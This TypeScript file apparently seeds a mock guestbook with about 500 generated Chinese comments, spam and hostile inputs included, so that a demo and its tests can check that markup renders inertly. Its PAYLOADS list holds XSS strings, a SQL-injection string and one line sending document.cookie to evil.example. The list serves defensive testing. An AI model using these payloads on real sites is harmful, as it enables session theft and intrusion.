import type { CommentStatus, GuestComment } from '../../api/comments'
import { SEED_NOW, daysBefore, seededRandom, type Random } from '../random'
import { seedDomains } from '../seeds'

/** What visitors of each kind of site write in the guestbook, keyed by the domain's slug (src/mock-server/seeds.ts). */
const topicMessages: Record<string, string[]> = {
  meishi: [
    '请问红烧肉炒糖色要炒到什么程度？我每次都炒糊了。',
    '照着做了可乐鸡翅，家里小朋友吃了两碗饭！',
    '烤箱温度是上下火都 180 度吗？',
    '求一个不用烤箱的蛋糕做法～',
  ],
  lvxing: [
    '下个月想去大理，住古城还是洱海边比较好？',
    '攻略太实用了，按这个路线走了一趟云南，省了不少钱。',
    '请问川西小环线十月份去会不会下雪？',
    '民宿推荐能不能更新一下，有几家已经关门了。',
  ],
  keji: ['这款手机的续航实测能到多少？', '评测很中肯，比某些恰饭博主强多了。', '能出一期国产大模型的横向对比吗？', '笔记本散热那段讲得不够细，能补充一下吗？'],
  jiankang: ['每天快走一万步真的有用吗？', '按文章里的方法调整作息一个月，睡眠好多了。', '请问膝盖不好适合做哪些运动？', '早餐只喝燕麦会不会营养不够？'],
  jiaju: ['小户型的收纳方案太有用了，已收藏。', '请问墙面用乳胶漆还是艺术漆好打理？', '装修预算表能不能分享一份模板？', '开放式厨房油烟问题怎么解决？'],
  qiche: ['新能源车冬天续航掉得厉害吗？', '试驾体验写得很细，已经下定了。', '请问家用充电桩安装需要物业同意吗？', '二手车检测有哪些坑要注意？'],
  yuer: ['宝宝八个月可以吃蛋黄了吗？', '早教游戏那篇试了，孩子特别喜欢。', '请问孩子晚上总是醒怎么办？', '辅食食谱能不能按月龄整理一下？'],
  caijing: ['定投基金到底应该什么时候止盈？', '文章分析得很透彻，受教了。', '请问现在适合买国债吗？', '能讲讲个人养老金账户怎么开吗？'],
  jiaoyu: ['考研英语作文模板还能用吗？', '按你们的计划背单词，四级过了，谢谢！', '请问留学文书可以找你们帮忙修改吗？', '在职考研时间怎么安排比较合理？'],
  youxi: ['这个版本的配队攻略什么时候更新？', '跟着攻略终于打过了最终 BOSS！', '请问手机发热严重怎么设置画质？', '电竞比赛的赛程能做个汇总吗？'],
  sheying: ['入门选微单还是手机就够了？', '后期调色教程太棒了，照片质感提升好多。', '请问夜景拍摄三脚架一定要带吗？', '人像构图那篇能多放几张示例吗？'],
  chongwu: ['猫咪不爱喝水怎么办？', '按文章换粮之后狗狗不挑食了，感谢！', '请问幼猫几个月可以打疫苗？', '家里有老人，养什么宠物比较合适？'],
}
const generalMessages = [
  '网站做得很用心，支持一下！',
  '文章里的图片加载不出来，麻烦看一下。',
  '希望能多更新一些这方面的内容。',
  '请问可以转载吗？会注明出处。',
  '手机上看排版有点乱，字体太小了。',
  '有没有公众号可以关注？',
  '想合作投稿，请问怎么联系编辑？',
  '第三段好像有个错别字，“的”应该是“得”。',
]
const spamMessages = [
  '兼职刷单日赚五百，详情加微信 zhuanqian888',
  '代开各类发票，正规可查，电话 13800001111',
  '高价回收二手手机、笔记本，上门取件 http://huishou.example',
  '专业 SEO 优化，7 天上首页，不上不收费！',
  '低价出售各平台账号，量大从优，QQ 12345678',
]
/** Markup and script that visitors (or attackers) typed: must show as these very characters and run nothing. */
export const PAYLOADS = [
  "<script>alert('xss')</script>",
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">点我</a>',
  '<b>加粗</b>的留言，看看会不会变粗',
  '写得真好！<script>document.location="http://evil.example/?c="+document.cookie</script>',
  '<svg onload=alert(document.domain)>',
  `<iframe src="javascript:alert('iframe')"></iframe>`,
  "\"><img src=x onerror=alert('attr')>",
  '<div style="position:fixed;inset:0;background:red">覆盖整个页面</div>',
  "' OR '1'='1'; --",
]
const payloadAuthors = ["<script>alert('name')</script>", '<b>管理员</b>', '<img src=x onerror=alert(2)>']

const surnames = '王李张刘陈杨黄赵吴周徐孙马朱胡郭何林罗高'
const givenNames = ['伟', '芳', '娜', '敏', '静', '磊', '洋', '勇', '婷', '杰', '欣怡', '子轩', '雨涵', '浩然', '思远']
const nicknames = ['吃货小王', '旅行的猫', '老陈', '路过的网友', '数码控', '奶爸阿强', '小鱼儿', '晴天', '匿名用户', '深夜食堂', '摄影爱好者']
const mailHosts = ['qq.com', '163.com', '126.com', 'gmail.com', 'outlook.com', 'foxmail.com']
const replies = [
  '感谢留言，已经转给编辑，会尽快更新相关内容。',
  '您好，这个问题我们整理成了一篇新文章，下周发布，敬请关注。',
  '谢谢支持！有问题随时留言。',
  '图片问题已修复，请刷新页面再试试。',
  '欢迎投稿，请把稿件发到 tougao@example.com。',
  '已修改，感谢指正！',
]

function author(random: Random): string {
  if (random.chance(0.35)) return random.pick(nicknames)
  return random.pick([...surnames]) + random.pick(givenNames)
}

function contact(random: Random): string {
  if (random.chance(0.4)) return `1${random.pick(['38', '39', '58', '86', '77', '99'])}${String(random.int(0, 99_999_999)).padStart(8, '0')}`
  return `${random.pick(['xiao', 'lily', 'zhang', 'wang', 'sunny', 'mike', 'ai'])}${random.int(1, 9999)}@${random.pick(mailHosts)}`
}

const ip = (random: Random) =>
  `${random.pick([36, 58, 101, 112, 113, 119, 120, 183, 220, 223])}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`

function buildComments(count: number): Omit<GuestComment, 'id'>[] {
  const random = seededRandom(20261115)
  const comments: Omit<GuestComment, 'id'>[] = []
  for (let index = 0; index < count; index++) {
    const site = random.pick(seedDomains)
    const slug = site.domain.split('-')[0]
    const roll = random.next()
    const payload = index % 17 === 3
    const spam = !payload && roll < 0.12
    const status: CommentStatus = spam ? 'spam' : payload ? random.pick(['pending', 'approved', 'spam'] as const) : roll < 0.35 ? 'pending' : 'approved'
    const content = payload
      ? random.pick(PAYLOADS)
      : spam
        ? random.pick(spamMessages)
        : random.chance(0.75)
          ? random.pick(topicMessages[slug] ?? generalMessages)
          : random.pick(generalMessages)
    const created = Date.parse(daysBefore(random.int(0, 180) + random.next()))
    const replied = status !== 'spam' && random.chance(status === 'approved' ? 0.4 : 0.08)
    const repliedAt = replied ? new Date(Math.min(SEED_NOW, created + random.int(1, 72) * 3_600_000)).toISOString() : null
    comments.push({
      domain: site.domain,
      author: payload && random.chance(0.3) ? random.pick(payloadAuthors) : author(random),
      contact: contact(random),
      content,
      ip: ip(random),
      status,
      reply: replied ? random.pick(replies) : '',
      createdAt: new Date(created).toISOString(),
      repliedAt,
    })
  }
  return comments
}

/**
 * About 500 guestbook messages over the last half year: about two thirds approved, a quarter pending, the rest spam;
 * one in seventeen holds markup or script. The same on every call, built afresh: Mirage's db keeps its own copy, and
 * nothing else holds one (to keep the demo page's heap small; tests read tests/support/seedData.ts).
 */
export const buildSeedComments = (): Omit<GuestComment, 'id'>[] => buildComments(500)
